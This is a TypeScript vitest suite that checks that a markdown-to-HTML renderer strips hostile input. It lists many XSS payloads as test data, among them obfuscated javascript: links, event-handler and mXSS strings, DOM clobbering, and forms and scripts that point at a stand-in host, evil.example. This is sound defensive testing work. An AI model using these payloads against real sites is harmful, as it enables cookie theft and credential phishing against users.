import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './server.ts';
import { expectSafe, parse } from './test-helpers.ts';

interface HostileCase {
  name: string;
  input: string;
  /** Extra expectations on top of the generic safety invariants. */
  check?: (html: string, root: HTMLElement) => void;
}

const noLinkHref = (_html: string, root: HTMLElement): void => {
  for (const a of Array.from(root.querySelectorAll('a'))) expect(a.hasAttribute('href')).toBe(false);
};
const noImages = (_html: string, root: HTMLElement): void => {
  expect(root.querySelectorAll('img')).toHaveLength(0);
};

const cases: HostileCase[] = [
  {
    name: 'script block is removed with its content',
    input: '<script>alert(1)</script>',
    check: (html) => expect(html).toBe('')
  },
  {
    name: 'inline script inside a paragraph',
    input: 'before <script>alert(document.cookie)</script> after',
    check: (html) => {
      expect(html).not.toContain('alert');
      expect(html).toContain('before');
      expect(html).toContain('after');
    }
  },
  {
    name: 'script with src and odd casing / spacing',
    input: '<ScRiPt src="https://evil.example/x.js"></sCrIpT ><script\n>alert(1)</script\n>',
    check: (html) => expect(html).not.toContain('evil')
  },
  {
    name: 'img onerror',
    input: '<img src=x onerror=alert(1)>',
    check: (html) => {
      expect(html).not.toMatch(/onerror/i);
      noImages(html, parse(html));
    }
  },
  {
    name: 'https img with onerror keeps image, drops handler',
    input: '<img src="https://img.example/a.png" onerror="alert(1)" onload=alert(2)>',
    check: (_html, root) => {
      const img = root.querySelector('img');
      expect(img?.getAttribute('src')).toBe('https://img.example/a.png');
      expect(img?.getAttributeNames().sort()).toEqual(['loading', 'referrerpolicy', 'src']);
    }
  },
  { name: 'markdown javascript: link', input: '[x](javascript:alert(1))', check: noLinkHref },
  { name: 'mixed-case JaVaScRiPt: link', input: '[x](JaVaScRiPt:alert(1))', check: noLinkHref },
  { name: 'markdown link with &#58; entity', input: '[x](javascript&#58;alert(1))', check: noLinkHref },
  { name: 'html link with &#58; entity', input: '<a href="javascript&#58;alert(1)">x</a>', check: noLinkHref },
  { name: 'html link with &colon; entity', input: '<a href="javascript&colon;alert(1)">x</a>', check: noLinkHref },
  { name: 'html link with &#x6A; entity', input: '<a href="&#x6A;avascript:alert(1)">x</a>', check: noLinkHref },
  { name: 'markdown link with &#x6A; entity', input: '[x](&#x6A;avascript:alert(1))', check: noLinkHref },
  {
    name: 'fully entity-encoded scheme',
    input: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    check: noLinkHref
  },
  { name: 'tab inside the scheme', input: '<a href="jav\tascript:alert(1)">x</a>', check: noLinkHref },
  { name: 'encoded tab inside the scheme', input: '<a href="jav&#x09;ascript:alert(1)">x</a>', check: noLinkHref },
  { name: 'newline inside the scheme', input: '<a href="java\nscript:alert(1)">x</a>', check: noLinkHref },
  { name: 'encoded newline / &NewLine;', input: '<a href="java&NewLine;script&colon;alert(1)">x</a>', check: noLinkHref },
  { name: 'leading control chars and spaces', input: '<a href=" &#14;  javascript:alert(1)">x</a>', check: noLinkHref },
  { name: 'unicode spaces inside the scheme', input: '<a href="java\u00A0script:alert(1)">x</a>', check: noLinkHref },
  { name: 'vbscript: link', input: '[x](vbscript:msgbox(1))', check: noLinkHref },
  { name: 'file: link', input: '[x](file:///etc/passwd)', check: noLinkHref },
  { name: 'other schemes are not allowed (ftp, tel)', input: '<a href="ftp://x.example">f</a> [t](tel:123)', check: noLinkHref },
  { name: 'data:text/html markdown link', input: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', check: noLinkHref },
  { name: 'data:text/html html link', input: '<a href="data:text/html,<script>alert(1)</script>">x</a>', check: noLinkHref },
  { name: 'javascript: autolink', input: '<javascript:alert(1)>', check: noLinkHref },
  { name: 'reference-style javascript: link', input: '[x][r]\n\n[r]: javascript:alert(1)', check: noLinkHref },
  { name: 'data: image in markdown', input: '![x](data:image/png;base64,iVBORw0KGgo=)', check: noImages },
  { name: 'data: svg image in html', input: '<img src="data:image/svg+xml,<svg onload=alert(1)>">', check: noImages },
  { name: 'http (non-https) image is dropped', input: '![x](http://img.example/a.png)', check: noImages },
  { name: 'relative image is dropped', input: '![x](/uploads/a.png) <img src="a.png">', check: noImages },
  { name: 'javascript: image src', input: '<img src="javascript:alert(1)">', check: noImages },
  {
    name: 'svg onload',
    input: '<svg onload=alert(1)><circle r=10 /></svg><svg><script>alert(1)</script></svg>',
    check: (html) => expect(html).not.toMatch(/svg|circle|alert/)
  },
  {
    name: 'svg <a xlink:href>',
    input: '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    check: (html) => expect(html).not.toContain('xlink')
  },
  {
    name: 'math mXSS (mglyph/style namespace confusion)',
    input: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    check: noImages
  },
  {
    name: 'math mXSS (textarea in svg in mtext)',
    input:
      '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></textarea></mtext></svg></mglyph></mi></math>',
    check: noImages
  },
  {
    name: 'math with javascript: href',
    input: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>',
    check: (html) => expect(html).not.toMatch(/maction|href/)
  },
  {
    name: 'noscript mXSS',
    input: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    check: noImages
  },
  {
    name: 'iframe (src, srcdoc)',
    input: '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    check: (html) => expect(html).toBe('')
  },
  {
    name: 'style element',
    input: '<style>body { display: none } @import url(https://evil.example/x.css);</style>hi',
    check: (html) => {
      expect(html).not.toContain('display');
      expect(html).toContain('hi');
    }
  },
  {
    name: 'style attribute with CSS',
    input: '<p style="background:url(javascript:alert(1));position:fixed;top:0">x</p>',
    check: (html) => {
      expect(html).not.toMatch(/style|position/);
      expect(html).toBe('<p>x</p>');
    }
  },
  {
    name: 'form with action / formaction / inputs',
    input:
      '<form action="https://evil.example/steal" method=post><input name=password type=password><button formaction="javascript:alert(1)">Go</button></form>',
    check: (html) => {
      expect(html).not.toMatch(/action|password|input/);
    }
  },
  {
    name: 'object / embed / applet',
    input: '<object data="javascript:alert(1)"></object><embed src="https://evil.example/x.swf"><applet code="x"></applet>',
    check: (html) => expect(html).not.toMatch(/evil|data=|code=/)
  },
  {
    name: 'details open ontoggle',
    input: '<details open ontoggle=alert(1)><summary>s</summary>body</details>',
    check: (html) => expect(html).toBe('<details open=""><summary>s</summary>body</details>')
  },
  {
    name: 'table background=javascript:',
    input: '<table background="javascript:alert(1)"><tr><td background="javascript:alert(2)">x</td></tr></table>',
    check: (html) => expect(html).not.toContain('background')
  },
  {
    name: 'base href',
    input: '<base href="https://evil.example/">[rel](/x)',
    check: (html) => expect(html).not.toContain('evil')
  },
  {
    name: 'meta refresh and link stylesheet',
    input: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><link rel=stylesheet href="https://evil.example/x.css">x',
    check: (html) => expect(html).not.toMatch(/refresh|evil/)
  },
  {
    name: 'id / name clobbering',
    input: '<img name="getElementById" src="https://x.example/a.png"><a id="location" name="cookie" href="#x">x</a><h3 id="body">h</h3>',
    check: (html) => expect(html).not.toMatch(/\s(?:id|name)=/)
  },
  {
    name: 'form clobbering of nodeName/attributes does not throw',
    input: '<form><input name="nodeName"><input name="attributes"><input name="setAttribute"></form>ok',
    check: (html) => expect(html).toContain('ok')
  },
  {
    name: 'event handlers on allowed tags, any casing',
    input: '<p onclick="alert(1)" ONMOUSEOVER=alert(2)>x</p><a href="https://ok.example" onfocus=alert(3) autofocus>y</a>',
    check: (html) => expect(html).not.toMatch(/on[a-z]+=|autofocus|alert/i)
  },
  {
    name: 'target and user rel are replaced',
    input: '<a href="https://ok.example" target="_blank" rel="opener">x</a>',
    check: (_html, root) => {
      const a = root.querySelector('a');
      expect(a?.hasAttribute('target')).toBe(false);
      expect(a?.getAttribute('rel')).toBe('nofollow noopener ugc');
    }
  },
  {
    name: 'protocol-relative link is rewritten to https',
    input: '<a href="//evil.example/x">a</a> [b](//evil.example/y)',
    check: (_html, root) => {
      const hrefs = Array.from(root.querySelectorAll('a')).map((a) => a.getAttribute('href'));
      expect(hrefs).toEqual(['https://evil.example/x', 'https://evil.example/y']);
    }
  },
  {
    name: 'backslash protocol-relative variants are rewritten to https',
    input: '<a href="/\\evil.example">a</a><a href="\\\\evil.example">b</a>',
    check: (_html, root) => {
      const hrefs = Array.from(root.querySelectorAll('a')).map((a) => a.getAttribute('href'));
      expect(hrefs).toEqual(['https://evil.example', 'https://evil.example']);
    }
  },
  {
    name: 'class other than language-* is removed; no class outside <code>',
    input:
      '<p class="admin-badge">x</p><code class="language-js evil">y</code><code class="hidden">z</code>\n\n```js" onclick="alert(1)\nq\n```',
    check: (html) => {
      expect(html).not.toMatch(/admin-badge|hidden|evil|onclick/);
    }
  },
  {
    name: 'invalid ol start / img size / align values are dropped',
    input:
      '<ol start="1;background:red"><li>a</li></ol><img src="https://x.example/a.png" width="100%;x" height="expression(alert(1))"><table><tr><td align="javascript:x">c</td></tr></table>',
    check: (html) => expect(html).not.toMatch(/start=|width=|height=|align=/)
  },
  {
    name: 'markdown image inside a link, with hostile HTML in the text',
    input: '[<img src=x onerror=alert(1)> click **me**](https://ok.example)',
    check: (_html, root) => {
      expect(root.querySelector('a')?.getAttribute('href')).toBe('https://ok.example');
      expect(root.querySelector('strong')?.textContent).toBe('me');
    }
  },
  {
    name: 'raw HTML wrapping markdown with a bad link',
    input: '<div onclick="alert(1)">\n\n**bold** [x](javascript:alert(1)) <a href="javascript:alert(2)">y</a>\n\n</div>',
    check: (html, root) => {
      noLinkHref(html, root);
      expect(root.querySelector('strong')?.textContent).toBe('bold');
    }
  },
  {
    name: 'attribute breakout through link title and image alt',
    input: '[x](https://ok.example "a\\" onmouseover=\\"alert(1)") ![y" onerror="alert(1)](https://ok.example/a.png)',
    check: (_html, root) => {
      const a = root.querySelector('a');
      const img = root.querySelector('img');
      expect(a?.getAttributeNames().sort()).toEqual(['href', 'rel', 'title']);
      expect(a?.getAttribute('title')).toBe('a" onmouseover="alert(1)');
      expect(img?.getAttributeNames().sort()).toEqual(['alt', 'loading', 'referrerpolicy', 'src']);
      expect(img?.getAttribute('alt')).toBe('y" onerror="alert(1)');
    }
  },
  {
    name: 'HTML comments and CDATA are removed',
    input: '<!-- <img src=x onerror=alert(1)> -->x<![CDATA[<script>alert(1)</script>]]>',
    check: (html) => expect(html).not.toMatch(/<!--|<!\[CDATA|<img|<script/)
  },
  {
    name: 'custom elements and unknown tags are unwrapped',
    input: '<x-widget onclick=alert(1)>a</x-widget><marquee>b</marquee><font color=red>c</font>',
    check: (html) => expect(html).toBe('<p>abc</p>')
  },
  {
    name: 'raw h1/h2 cannot outshout the page title',
    input: '<h1>LOUD</h1><h2>louder</h2>',
    check: (html) => {
      expect(html).not.toMatch(/<h[12]/);
      expect(html).toContain('LOUD');
    }
  },
  {
    name: 'body / html / head tags and their attributes',
    input: '<html manifest="x"><head><title>t</title></head><body onload=alert(1) background="javascript:alert(2)">text</body></html>',
    check: (html) => expect(html).toBe('text')
  },
  {
    name: 'template and dangling markup',
    input: '<template><img src=x onerror=alert(1)></template><img src="https://ok.example/a.png\n<script>',
    check: (html) => expect(html).not.toMatch(/template|onerror/)
  }
];

describe('hostile input', () => {
  it.each(cases.map((c) => [c.name, c] as const))('%s', (_name, c) => {
    const html = renderMarkdown(c.input);
    expectSafe(html);
    c.check?.(html, parse(html));
  });
});
